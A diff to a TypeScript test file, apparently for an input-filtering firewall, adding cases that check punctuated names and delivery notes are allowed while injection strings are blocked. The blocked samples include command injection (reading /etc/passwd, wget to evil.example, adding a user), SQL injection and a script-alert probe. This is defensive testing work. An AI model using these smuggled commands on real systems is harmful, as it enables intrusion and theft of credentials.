@@ -188,6 +188,39 @@ describe("sentences (the prose fast path)", () => {
   });
 });
 
+describe("field values that are sentences but for a little punctuation", () => {
+  // Names, addresses, notes and product names take the sentence path with the detectors their
+  // punctuation needs (`/`: paths and commands; `;`, `&`: commands and SQL; `word (`: SQL and PHP).
+  it.each([
+    "c/o Reception (2nd floor)",
+    "Gift wrap & card",
+    "Leave with the concierge if I'm out; don't ring after 9 pm.",
+    "Wall mount — VESA 300×300, tilt ±15°",
+    "Deliver to the office, 4th floor, ask for Sam @ reception. (#3)",
+    "Ngozi D'Arcy",
+    "Happy 40th, Dave! Don't watch it all in one night :)",
+    "Levi's 501 Jeans — W32/L34",
+    "USB-C hub (7-in-1)",
+  ])("passes %j", (v) => {
+    expect(json({ v }).action).toBe("allow");
+  });
+  it.each([
+    "order & whoami",
+    "gift wrap & net user hacker p4ss /add",
+    "name; cat /etc/passwd",
+    "parcel; wget evil.example",
+    "Mr Smith; drop table users",
+    "Ana & sleep 5",
+    "x' or 'a' like 'a",
+    "exec  (blah)",
+    "see (select password from users)",
+    "hello world (alert (1))",
+    "admin' #",
+  ])("blocks %j", (v) => {
+    expect(json({ v }).action).toBe("block");
+  });
+});
+
 describe("payload inspection", () => {
   const attacks: Array<[string, () => ReturnType<typeof evaluate>]> = [
     ["sqli", () => query("' OR '1'='1")],
